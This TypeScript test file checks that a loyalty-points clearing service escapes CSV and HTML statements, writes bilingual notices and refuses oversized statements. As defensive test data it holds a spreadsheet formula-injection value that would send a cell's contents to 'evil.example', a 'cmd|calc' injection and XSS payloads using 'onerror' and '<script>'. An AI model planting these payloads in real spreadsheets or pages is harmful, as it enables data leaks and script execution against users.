import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { csvOf } from '../../shared/csv.ts';
import { escapeHtml } from '../../subgraphs/points-ledger/clearing/domain/statement-page.ts';
import { engines } from '../support/engines.ts';
import { accrue, burn } from './books-world.ts';
import { namesOf, openClearing } from './clearing-world.ts';

test.each([
  // A text that a program could take for a formula gets an apostrophe; a number stays a number.
  ['=HYPERLINK("http://x","y")', `"'=HYPERLINK(""http://x"",""y"")"`],
  ['+1', "'+1"],
  ['-1+cmd|calc', "'-1+cmd|calc"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\tx', "'\tx"],
  ['\rx', `"'\rx"`],
  [-5, '-5'],
  ['a,b', '"a,b"'],
  ['a"b', '"a""b"'],
  ['a\nb', '"a\nb"'],
  ['平安店', '平安店'],
  [null, ''],
])('the cell %j is written as %s', (value, text) => {
  expect(csvOf([[value, 1]])).toBe(`${text},1\r\n`);
});

test('nothing of a text gets out of its place in HTML', () => {
  expect(escapeHtml(`<script>"&'</script>`)).toBe('&lt;script&gt;&quot;&amp;&#39;&lt;/script&gt;');
});

/** What a page may be made of: nothing that loads or runs anything. */
const INERT = new Set(
  'html head meta title style body h1 h2 h3 table thead tbody tr th td p strong'.split(' '),
);
const BAD = '<img src=x onerror=alert(1)>';
const FORMULA = '=HYPERLINK("http://evil.example?"&A1,"店, \nB")';

describe.each(engines)('on $name', { timeout: 60_000 }, (engine) => {
  test('the CSV of a statement can be read back and adds up to the single burn', async () => {
    await using books = await openClearing(engine, { peer: namesOf({ B: FORMULA }) });
    const ids = await books.redeem([
      ['A', 'B', 33],
      ['A', 'B', 34],
      ['A', 'C', 5],
      ['C', 'A', 50],
    ]);
    await books.close();

    const { csv } = await books.statement('A', 'csv');

    const [head] = csv.split('\r\n');
    expect(head).toBe(
      'record,cycle,line,kind,side,fromId,from,toId,to,priceMinor,pricePoints,points,amountMinor,' +
        'currency,burns,state,dueOn,guaranteedMinor,uncoveredMinor,paidOn,reference,entryId,recordedAt,causeKind,causeId,text',
    );
    const rows: Record<string, string>[] = parseCsv(csv, { columns: true, bom: false });
    const of = (record: string) => rows.filter((row) => row.record === record);
    expect(of('LINE')).toMatchObject([
      { line: '1', side: 'OWES', toId: 'B', to: `'${FORMULA}`, points: '67', amountMinor: '54' },
      { line: '2', side: 'OWES', toId: 'C', to: 'Shop C', points: '5', amountMinor: '4' },
      { line: '3', side: 'OWED', fromId: '', from: '', points: '50', amountMinor: '40' },
    ]);
    expect(of('BURN').map(({ line, points, causeId }) => [line, points, causeId])).toEqual([
      ['1', '33', ids[0]],
      ['1', '34', ids[1]],
      ['2', '5', ids[2]],
      ['3', '50', ids[3]],
    ]);
    expect(of('PAYMENT')).toMatchObject([{ fromId: 'A', toId: 'B', amountMinor: '18' }]);
    expect(of('NOTICE').map(({ text }) => text)).toEqual([
      expect.stringContaining('not money'),
      expect.stringContaining('Nothing is paid through this platform'),
    ]);
    const { csv: short } = await books.statement('A', 'csv(burns: false)');
    expect(short).not.toContain('BURN,');
  });

  test('the page of a statement escapes everything, runs nothing, and speaks two languages', async () => {
    await using books = await openClearing(engine, { peer: namesOf({ B: BAD }) });
    await books.post([
      accrue({ issuerId: 'A', points: 123_456, causeId: 'p1' }),
      burn({ acceptorId: 'B', points: 123_456, causeId: `"><script>alert(1)</script>` }),
    ]);
    await books.close();

    const { page } = await books.statement('A', 'page');
    const { page: chinese } = await books.statement('A', 'page', { locale: 'zh-CN' });

    expect(page).toMatch(/^<!doctype html>\n<html lang="en">/);
    const tags = new Set([...page.matchAll(/<([a-z]\w*)([^>]*)>/gi)].map(([, tag]) => tag));
    expect([...tags].filter((tag) => !INERT.has(String(tag)))).toEqual([]);
    const attributes = [...page.matchAll(/<[a-z][^>]*?\s([a-z-]+)="/g)].map(([, name]) => name);
    expect(new Set(attributes)).toEqual(new Set(['lang', 'charset', 'http-equiv', 'class']));
    expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(page).toContain('REDEMPTION &quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(page).toContain('CN¥987.65');
    expect(page).toContain('not money, no deposit, no security and no investment');
    expect(chinese).toContain('<html lang="zh-CN">');
    expect(chinese).toContain('¥987.65');
    expect(chinese).toContain('积分是商家给予的折扣优惠');
    expect(chinese).toContain('任何款项均不经本平台收付');
    expect(chinese).toContain('Shop A店');
  });

  test('L15, L14: every statement says that points are no money and that nothing is paid here', async () => {
    await using books = await openClearing(engine);
    await books.redeem([['A', 'B', 10]]);
    await books.close();

    const { notices } = await books.statement('B', 'notices');
    const { notices: chinese } = await books.statement('B', 'notices', { locale: 'zh-CN' });

    expect(notices).toEqual([
      'Points are a discount that merchants grant. They are not money, no deposit, no security and no investment.',
      expect.stringContaining('it holds no money: merchants pay each other outside of it'),
    ]);
    expect(chinese).toEqual([
      expect.stringContaining('不是货币'),
      expect.stringContaining('本平台不持有资金'),
    ]);
  });

  test('while merchants is out of reach a statement is written with ids', async () => {
    await using books = await openClearing(engine, {
      peer: () => ({ data: null, errors: [{ message: 'away' }] }),
    });
    await books.redeem([['A', 'B', 10]]);
    await books.close();

    const { csv, page } = await books.statement('A', 'csv page');

    expect(csv).toContain('LINE,1,1,BURNS,OWES,A,,B,,80,100,10,8,CNY,1,OPEN');
    expect(page).toContain('<td>B</td>');
  });

  test('more burns than can be written out are refused, with what to do', async () => {
    await using books = await openClearing(engine);
    await books.redeem([['A', 'B', 10]]);
    await books.close();
    await books.tamper('UPDATE points_clearing_line SET burns = 20001');

    const { data, errors } = await books.ask(
      '{ clearingStatements(first: 1) { nodes { id csv lines { burnCount } } } }',
    );

    expect(data.clearingStatements.nodes).toMatchObject([{ csv: null, lines: [{}] }]);
    expect(errors).toMatchObject([
      { extensions: { code: 'BAD_USER_INPUT', reason: 'TOO_MANY_BURNS' } },
    ]);
  });
});
